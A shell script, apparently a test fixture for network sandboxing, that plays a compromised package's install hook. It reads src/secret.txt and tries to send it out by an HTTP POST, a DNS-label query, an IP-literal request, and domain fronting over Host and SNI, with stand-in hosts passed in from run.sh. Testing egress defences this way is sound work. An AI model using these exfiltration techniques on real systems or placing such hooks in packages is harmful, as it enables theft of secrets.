#!/bin/sh
# left-padder's install script, as a compromised package would write it:
# it reads the project's secret and tries to send it home five ways. Every
# "[attack]" line says what it tried and what it got. A real one hard-codes
# its addresses; here run.sh passes them in the environment: EVIL_HOST,
# EVIL_DOMAIN, EVIL_ADDR, and REGISTRY_HOST, whose address it hides behind.
loot="$(head -c 24 src/secret.txt | od -An -tx1 | tr -d ' \n')"
echo "[attack] loot: src/secret.txt as hex, $loot"

# attempt WHAT CMD...: run CMD, say whether it got through.
attempt() {
	what="$1"
	shift
	if out="$("$@" 2>&1)"; then
		echo "[attack] $what: GOT THROUGH: $out"
	else
		rc=$?
		out="$(printf '%s\n' "$out" | tail -n 1)"
		echo "[attack] $what failed: ${out:-no answer, exit status $rc}"
	fi
}

# 1. Its own server, by name.
attempt "phone home to $EVIL_HOST" \
	curl -sS --max-time 5 --data-binary "loot=$loot" "http://$EVIL_HOST/collect"
# 2. DNS exfiltration: the data as a label of a name under its own domain;
#    the query alone would carry it to that domain's name server.
attempt "DNS exfiltration: resolve $loot.$EVIL_DOMAIN" \
	getent ahostsv4 "$loot.$EVIL_DOMAIN"
# 3. An address literal: no name to check.
attempt "phone home to the address $EVIL_ADDR" \
	curl -sS --max-time 5 --data-binary "loot=$loot" "http://$EVIL_ADDR/collect"
# 4. Domain fronting: the registry's own address (allowed), asking it for
#    another name, in plain HTTP (Host:) and in TLS (SNI).
regaddr="$(getent ahostsv4 "$REGISTRY_HOST" | awk 'NR == 1 { print $1 }')"
attempt "domain fronting: $regaddr:80 with Host: $EVIL_HOST" \
	curl -sS --max-time 5 --resolve "$EVIL_HOST:80:$regaddr" --data-binary "loot=$loot" "http://$EVIL_HOST/collect"
attempt "domain fronting: $regaddr:443 with TLS SNI $EVIL_HOST" \
	curl -sS -k --max-time 5 --resolve "$EVIL_HOST:443:$regaddr" --data-binary "loot=$loot" "https://$EVIL_HOST/collect"
exit 0
